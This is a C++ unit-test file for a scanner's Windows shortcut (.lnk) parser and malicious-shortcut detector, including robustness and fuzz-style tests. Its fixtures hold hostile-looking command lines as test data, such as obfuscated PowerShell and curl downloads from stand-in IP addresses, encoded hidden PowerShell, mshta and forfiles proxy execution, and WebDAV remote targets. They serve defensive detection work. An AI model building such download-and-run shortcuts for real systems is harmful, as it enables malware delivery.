#include "scanner/active/lnk.h"

#include <gtest/gtest.h>

#include "scanner/active/active_test_tools.h"
#include "scanner/active/lnk_format.h"
#include "tests/fixtures/le.h"
#include "tests/fixtures/lnk_writer.h"
#include "tests/fixtures/mutate.h"
#include "tests/fixtures/scratch.h"

namespace sekisho::scanner::active {
namespace {

using fixtures::LnkFile;

ShellLink read(const std::string& bytes) { return read_shell_link(base::as_bytes(bytes)); }

LnkFile with_command(std::string program, std::string arguments) {
    LnkFile link;
    link.volume = "C:\\";
    link.folders = {"Windows", "System32", std::move(program)};
    link.arguments = std::move(arguments);
    return link;
}

TEST(Lnk, EveryStructureIsRead) {
    LnkFile file = with_command("notepad.exe", "\"C:\\tmp\\見積書.txt\"");
    file.local_path = "C:\\Windows\\System32\\";
    file.suffix = "notepad.exe";
    file.name = "a description";
    file.relative_path = "..\\x\\notepad.exe";
    file.working_dir = "C:\\tmp";
    file.icon_location = "%SystemRoot%\\shell32.dll";
    file.icon_index = -3;
    file.show_command = 7;
    file.environment_target = "%windir%\\system32\\notepad.exe";
    file.icon_environment = "%windir%\\x.ico";
    file.machine = "pc-0123";
    file.property = "a property";
    const std::string bytes = fixtures::lnk_file(file);
    const ShellLink link = read(bytes);
    EXPECT_EQ(link.unread, "");
    EXPECT_EQ(link.end, bytes.size());
    EXPECT_EQ(link.id_path, "C:\\Windows\\System32\\notepad.exe");
    EXPECT_EQ(link.local_path, "C:\\Windows\\System32\\notepad.exe");
    EXPECT_EQ(link.network_path, "");
    EXPECT_EQ(link.name, "a description");
    EXPECT_EQ(link.relative_path, "..\\x\\notepad.exe");
    EXPECT_EQ(link.working_dir, "C:\\tmp");
    EXPECT_EQ(link.arguments, "\"C:\\tmp\\見積書.txt\"");
    EXPECT_EQ(link.icon_location, "%SystemRoot%\\shell32.dll");
    EXPECT_EQ(link.icon_index, -3);
    EXPECT_EQ(link.show_command, 7u);
    EXPECT_EQ(link.environment_target, "%windir%\\system32\\notepad.exe");
    EXPECT_EQ(link.icon_environment, "%windir%\\x.ico");
    EXPECT_EQ(link.machine, "pc-0123");
    EXPECT_EQ(link.mac, "00:00:5e:00:53:01");
    EXPECT_EQ(link.properties, std::vector<std::string>{"a property"});
    EXPECT_EQ(link.targets().size(), 2u);
}

TEST(Lnk, SharesAndAddresses) {
    EXPECT_EQ(read(fixtures::lnk_file(fixtures::folder_link())).id_path,
              "\\\\fileserver\\sales\\2026\\quotes");
    EXPECT_EQ(read(fixtures::lnk_file(fixtures::folder_link())).network_path,
              "\\\\fileserver\\sales\\2026\\quotes");
    LnkFile web;
    web.uri = "https://portal.example.com/";
    EXPECT_EQ(read(fixtures::lnk_file(web)).id_path, "https://portal.example.com/");
    LnkFile wide;
    wide.local_path = "C:\\data\\";
    wide.suffix = "報告書.xlsx";
    wide.wide_info = true;
    EXPECT_EQ(read(fixtures::lnk_file(wide)).local_path, "C:\\data\\報告書.xlsx");
}

TEST(Lnk, TextOfACodePage) {
    LnkFile file = with_command("notepad.exe", "");
    file.unicode = false;
    file.ansi_charset_bytes = "\x8C\xA9\x90\xCF.txt";  // CP932
    EXPECT_EQ(read(fixtures::lnk_file(file)).arguments, "見積.txt");
    file.ansi_charset_bytes = "\xE4.txt";
    file.code_page = 1252;
    EXPECT_EQ(read(fixtures::lnk_file(file)).arguments, "\xC3\xA4.txt");
}

struct Case {
    std::string name;
    LnkFile link;
    std::string file_name;
    std::string ids;  // sorted
};
class Judge : public testing::TestWithParam<Case> {};
TEST_P(Judge, Finds) {
    const Opened opened = open_file(fixtures::lnk_file(GetParam().link), GetParam().file_name);
    EXPECT_EQ(opened.format, "lnk");
    EXPECT_EQ(joined(opened.ids), GetParam().ids) << opened.evidence;
}

LnkFile remote(std::string target) {
    LnkFile link;
    link.share = std::move(target);
    link.suffix = "report";
    return link;
}
LnkFile web(std::string uri) {
    LnkFile link;
    link.uri = std::move(uri);
    return link;
}
LnkFile with_overlay(LnkFile link, std::string overlay) {
    link.overlay = std::move(overlay);
    return link;
}
LnkFile with_icon(LnkFile link, std::string icon) {
    link.icon_location = std::move(icon);
    return link;
}
LnkFile by_environment(std::string target, std::string arguments) {
    LnkFile link;
    link.environment_target = std::move(target);
    link.arguments = std::move(arguments);
    return link;
}
LnkFile by_relative(std::string path, std::string arguments = {}) {
    LnkFile link;
    link.relative_path = std::move(path);
    link.arguments = std::move(arguments);
    return link;
}
LnkFile at_private_address() {
    LnkFile link = fixtures::folder_link();
    link.volume = link.share = "\\\\192.168.1.10\\share";
    return link;
}

// The bare shortcuts of an office: each of them alone must leave a mail clean.
INSTANTIATE_TEST_SUITE_P(
    Honest, Judge,
    testing::Values(
        Case{"folder_on_a_server", fixtures::folder_link(), "quotes.lnk", "file.shortcut"},
        Case{"server_by_address", at_private_address(), "share.lnk", "file.shortcut"},
        Case{"server_by_full_name", remote("\\\\files.corp.example.com\\share"), "a.lnk", "file.shortcut"},
        Case{"document", with_command("..\\winword.exe", ""), "report.docx.lnk", "file.shortcut"},
        Case{"portal", web("https://portal.example.com/login?x=a.js"), "portal.lnk", "file.shortcut"},
        Case{"browser", with_command("msedge.exe", "--app=https://portal.example.com/ --profile=1"),
             "portal.lnk", "file.shortcut"},
        Case{"folder_by_explorer", with_command("..\\explorer.exe", "\\\\fileserver\\sales\\2026"),
             "sales.lnk", "file.shortcut"},
        Case{"log_on_script",
             [] {
                 LnkFile link;
                 link.share = "\\\\fileserver\\netlogon";
                 link.suffix = "login.bat";
                 return link;
             }(),
             "login.lnk", "file.shortcut"},
        Case{"program_with_many_arguments",
             with_command("java.exe", "-cp " + std::string(400, 'x') + " com.example.Main"), "app.lnk",
             "file.shortcut"},
        Case{"sharepoint", remote("\\\\example.sharepoint.com@SSL\\DavWWWRoot\\sites"), "a.lnk",
             "file.shortcut"},
        Case{"browser_app", with_command("msedge.exe", "--profile-directory=Default --app-id=abcdef"),
             "app.lnk", "file.shortcut"},
        Case{"document_of_a_share", with_command("..\\excel.exe", "\"\\\\fileserver\\sales\\a.xlsx\""),
             "a.lnk", "file.shortcut"},
        Case{"zeros_behind", with_overlay(fixtures::folder_link(), std::string(500, '\0')), "a.lnk",
             "file.shortcut"}),
    [](const auto& info) { return info.param.name; });

INSTANTIATE_TEST_SUITE_P(
    Commands, Judge,
    testing::Values(
        Case{"emotet_2022", fixtures::emotet_link_2022(), "Form 04.25.2022, US.lnk",
             "file.shortcut lnk.command lnk.fetch lnk.icon lnk.payload"},
        Case{"cmd", with_command("cmd.exe", "/c net use"), "a.lnk", "file.shortcut lnk.command"},
        Case{"script_beside_it", with_command("wscript.exe", "resources\\a.js"), "a.lnk",
             "file.shortcut lnk.command lnk.companion"},
        Case{"library_beside_it", with_command("rundll32.exe", "data\\a.dll,#1"), "a.lnk",
             "file.shortcut lnk.command lnk.companion"},
        Case{"library_of_windows", with_command("rundll32.exe", "shell32.dll,Control_RunDLL"), "a.lnk",
             "file.shortcut lnk.command"},
        Case{"script_of_this_machine", with_command("cmd.exe", "/c \"C:\\tools\\logon.bat\""), "a.lnk",
             "file.shortcut lnk.command"},
        Case{"script_where_it_starts",
             [] {
                 LnkFile link = with_command("cmd.exe", "/c logon.bat");
                 link.working_dir = "C:\\tools";
                 return link;
             }(),
             "a.lnk", "file.shortcut lnk.command"},
        Case{"program_elsewhere", with_command("pcalua.exe", "-a \\\\192.0.2.7\\s\\a.exe"), "a.lnk",
             "file.shortcut lnk.command lnk.remote"},
        Case{"copy_from_elsewhere", with_command("scp.exe", "r@192.0.2.7:/a.exe %TEMP%"), "a.lnk",
             "file.shortcut lnk.command lnk.fetch"},
        Case{"page_in_the_command",
             with_command("msedge.exe", "--app=data:text/html,<script>location='x'</script>"), "a.lnk",
             "file.shortcut lnk.command lnk.fetch"},
        Case{"carets", with_command("cmd.exe", "/c p^o^w^e^r^s^h^e^l^l -c iwr http://192.0.2.1/x"), "a.lnk",
             "file.shortcut lnk.command lnk.fetch"},
        Case{"environment", by_environment("%ComSpec%", "/c echo"), "a.lnk", "file.shortcut lnk.command"},
        Case{"encoded_powershell",
             by_environment("%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                            "-w hidden -eNc SQBOAEUAUgBUACAASQBOAEUAUgBUAA=="),
             "a.lnk", "file.shortcut lnk.command lnk.fetch"},
        Case{"through_another",
             with_command("forfiles.exe", "/p c:\\windows /m notepad.exe /c \"mshta.exe x\""), "a.lnk",
             "file.shortcut lnk.command"},
        Case{"qakbot",
             with_command("cmd.exe",
                          "/q /c echo 'X' && \"\"curl\"\" -o %temp%\\a.ocx \"\"http://192.0.2.1/x\"\""),
             "a.lnk", "file.shortcut lnk.command lnk.fetch"},
        Case{"script_in_an_image", by_relative(".\\vertices\\stockholders.cmd", "regsvr"), "a.lnk",
             "file.shortcut lnk.command"},
        Case{"explorer_of_a_stranger", with_command("explorer.exe", "\\\\192.0.2.1@80\\DavWWWRoot\\x"),
             "a.lnk", "file.shortcut lnk.command lnk.fetch lnk.remote"},
        Case{"padded", with_command("cmd.exe", std::string(200, ' ') + "/c x"), "a.lnk",
             "file.shortcut lnk.command lnk.padded"},
        Case{"padded_by_lines", with_command("cmd.exe", "/c" + std::string(64, '\n') + "x"), "a.lnk",
             "file.shortcut lnk.command lnk.padded"},
        Case{"padded_by_length", with_command("cmd.exe", "/c " + std::string(300, 'x')), "a.lnk",
             "file.shortcut lnk.command lnk.padded"},
        Case{"pdf_icon",
             with_icon(with_command("mshta.exe", "x"), "C:\\Program Files\\Acrobat\\AcroRd32.exe"), "a.lnk",
             "file.shortcut lnk.command lnk.icon"},
        Case{"webdav", remote("\\\\192.0.2.1@8080\\DavWWWRoot"), "a.lnk", "file.shortcut lnk.remote"},
        Case{"address", remote("\\\\192.0.2.1\\share"), "a.lnk", "file.shortcut lnk.remote"},
        Case{"web_program", web("http://192.0.2.1/a.hta"), "a.lnk", "file.shortcut lnk.remote"},
        Case{"remote_icon", with_icon(fixtures::folder_link(), "\\\\192.0.2.1\\x\\a.ico"), "a.lnk",
             "file.shortcut lnk.remote"},
        Case{"overlay", with_overlay(fixtures::folder_link(), "some bytes"), "a.lnk",
             "file.shortcut lnk.overlay"},
        Case{"zip_behind", with_overlay(fixtures::folder_link(), "PK\x03\x04" + std::string(100, 'x')),
             "a.lnk", "file.shortcut lnk.payload"},
        Case{"unterminated",
             [] {
                 LnkFile link = with_overlay(fixtures::folder_link(),
                                             "On Error Resume Next\r\nSet s = CreateObject(\"x\")");
                 link.terminated = false;
                 return link;
             }(),
             "a.lnk", "file.shortcut lnk.payload"}),
    [](const auto& info) { return info.param.name; });

TEST(Lnk, TheCommandAndTheOverlayAreChildren) {
    const Opened opened = open_file(fixtures::lnk_file(fixtures::emotet_link_2022()), "Form.lnk");
    EXPECT_EQ(joined(opened.labels), "overlay command");
    EXPECT_TRUE(opened.child("command").starts_with("C:\\nonexistent\\cmd.exe /v:on /c findstr"))
        << opened.child("command");
    EXPECT_TRUE(opened.child("overlay").starts_with("\r\nINERT SEKISHO TEST"));
    EXPECT_GE(opened.score, 10.0);
    EXPECT_NE(opened.evidence.find("desktop-inert 00:00:5e:00:53:01"), std::string::npos) << opened.evidence;
    EXPECT_LT(open_file(fixtures::lnk_file(fixtures::folder_link()), "a.lnk").score, 5.0);
}

TEST(Lnk, WhatIsCutIsToldAndKept) {
    LnkFile file = with_command("cmd.exe", "/c echo INERT");
    const std::string whole = fixtures::lnk_file(file);
    const Opened opened = open_file(whole.substr(0, whole.size() - 10), "a.lnk");
    EXPECT_EQ(joined(opened.ids), "file.shortcut lnk.command lnk.damaged") << opened.evidence;
    EXPECT_TRUE(opened.child("command").starts_with("C:\\Windows\\System32\\cmd.exe /c echo"))
        << opened.child("command");
}

TEST(LnkProperty, EveryCutEndsAndEveryFlipEnds) {
    LnkFile file = fixtures::emotet_link_2022();
    file.local_path = "C:\\x\\";
    file.suffix = "cmd.exe";
    file.environment_target = "%x%\\cmd.exe";
    file.property = "x";
    const std::string whole = fixtures::lnk_file(file);
    const std::size_t end = whole.size() - file.overlay.size();
    for (std::size_t size = 20; size < whole.size(); ++size) {
        const ShellLink link = read(whole.substr(0, size));
        EXPECT_LE(link.end, size);
        // Up to the extra data, which may end anywhere between two blocks, a cut is told.
        if (size < 400) {
            EXPECT_NE(link.unread, "") << size;
        }
    }
    EXPECT_EQ(read(whole).end, end);
    for (std::size_t at = 20; at < whole.size(); ++at) {
        std::string flipped = whole;
        flipped[at] = static_cast<char>(flipped[at] ^ 0x81);
        const Opened opened = open_file(flipped, "a.lnk");
        EXPECT_TRUE(opened.has("file.shortcut")) << at;
    }
    for (std::uint32_t seed = 1; seed <= 1'000; ++seed) {
        const std::string bytes = fixtures::mutate(whole, seed);
        EXPECT_LE(read(bytes).end, bytes.size());
    }
}

// liblnk is another implementation of the same specification.
TEST(Lnk, LnkinfoReadsTheSame) {
    const fixtures::Scratch scratch;
    if (!scratch.run("command -v lnkinfo").empty()) GTEST_SKIP() << "lnkinfo (liblnk-utils) is not installed";
    LnkFile file = fixtures::emotet_link_2022();
    file.local_path = "C:\\nonexistent\\";
    file.suffix = "cmd.exe";
    file.working_dir = "C:\\tmp";
    file.environment_target = "%x%\\cmd.exe";
    file.overlay.clear();
    const std::string bytes = fixtures::lnk_file(file);
    scratch.write("a.lnk", bytes);
    ASSERT_EQ(scratch.run("lnkinfo a.lnk > told 2>&1"), "") << scratch.read("told");
    const std::string told = scratch.read("told");
    const ShellLink link = read(bytes);
    // It prints the card's address as the last field of the droid's identifier.
    std::string mac = link.mac;
    std::erase(mac, ':');
    EXPECT_NE(told.find("Long name\t\t: cmd.exe"), std::string::npos) << told;
    for (const std::string& text : {link.local_path, link.arguments, link.working_dir,
                                    link.environment_target, link.machine, mac, link.icon_location}) {
        ASSERT_FALSE(text.empty());
        EXPECT_NE(told.find(text), std::string::npos) << text << "\n" << told;
    }
}

}  // namespace
}  // namespace sekisho::scanner::active
